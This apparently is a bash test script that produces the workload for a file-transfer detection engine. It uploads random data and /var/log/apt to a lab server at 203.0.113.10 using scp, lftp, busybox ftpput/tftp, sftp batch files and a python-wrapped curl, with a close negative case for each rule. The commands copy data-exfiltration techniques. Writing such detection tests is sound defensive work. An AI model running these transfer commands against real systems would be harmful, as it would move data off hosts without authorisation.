#!/bin/bash
# The workload recorded in detection.log: one case per rule that must fire and a close case
# that must not, run by this script (no terminal) against Tests/support/transfer-lab
# (`transfer-lab up /tmp/xwlab` first). Each client's pid goes to manifest.txt as "NAME PID".
set -euo pipefail
lab=/tmp/xwlab
out=$(dirname "$0")
manifest=$out/manifest.txt
: > "$manifest"
work=$(mktemp -d)
head -c 200000 /dev/urandom > "$work/data.bin"
cp "$work/data.bin" "$work/report.zip"
hash=0123456789abcdef0123456789abcdef01234567
cp "$work/data.bin" "$work/$hash"
mkdir -p "$work/project" && cp "$work/data.bin" "$work/project/"
ssh_options="-i $lab/client_key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o LogLevel=ERROR"
run() { # run NAME COMMAND...: records the pid, then becomes the client
    local name=$1; shift
    bash -c 'echo "$0 $$" >> "$1"; shift; exec "$@"' "$name" "$manifest" "$@"
}
printf 'user anonymous x\nbinary\nput %s upload/put.bin\nquit\n' "$work/data.bin" > "$work/put.ftp"
printf 'open 203.0.113.10\nuser anonymous x\nput %s -o upload/lftp-f.bin\nquit\n' "$work/data.bin" > "$work/script.lftp"
printf 'put %s %s\n' "$work/data.bin" "$lab/sshroot/sftp.bin" > "$work/batch.sftp"

# an1170.command_line (and its close case: a project directory)
run scp-var-log scp -r $ssh_options /var/log/apt root@203.0.113.10:$lab/sshroot/
run scp-project scp -r $ssh_options "$work/project" root@203.0.113.10:$lab/sshroot/
# ftp.scripted: lftp -f, busybox ftpput, sftp -b; close case: curl
run lftp-script lftp -f "$work/script.lftp"
run busybox-ftpput busybox ftpput -u anonymous -p x 203.0.113.10 upload/ftpput.bin "$work/data.bin"
run sftp-batch sftp $ssh_options -b "$work/batch.sftp" root@203.0.113.10 > /dev/null
run curl-put curl -s -T "$work/data.bin" ftp://203.0.113.10/upload/curl.bin
# an1169.lolbin_transfer and an1169.suspicious_filename: python -c running curl on a .zip,
# busybox tftp of a hash-named file; close case: tftp-hpa with a plain name
run python-curl-zip /usr/bin/python3 -c 'import subprocess, sys; subprocess.run(["curl", "-s", "-T", sys.argv[1], "ftp://203.0.113.10/upload/report.zip"], check=True)' "$work/report.zip"
run busybox-tftp-hash busybox tftp -p -l "$work/$hash" -r "$hash" 203.0.113.10
run tftp-plain tftp 203.0.113.10 -c put "$work/data.bin" plain.bin
# transfer.nonstandard_port: FTP on 443, scp on 2222; close case: the same on 21 and 22
run lftp-443 lftp -u anonymous,x -p 443 -e "put $work/data.bin -o upload/x443.bin; quit" 203.0.113.10
run lftp-21 lftp -u anonymous,x -e "put $work/data.bin -o upload/x21.bin; quit" 203.0.113.10
run scp-2222 scp -P 2222 $ssh_options "$work/data.bin" root@203.0.113.10:$lab/sshroot/p2222.bin
# ftp.internet and an1170.noninteractive_transfer: a private server is neither
run ftp-internet ftp -n -p 203.0.113.10 < "$work/put.ftp" > /dev/null
run ftp-private ftp -n -p 10.203.0.10 < "$work/put.ftp" > /dev/null
rm -rf "$work"
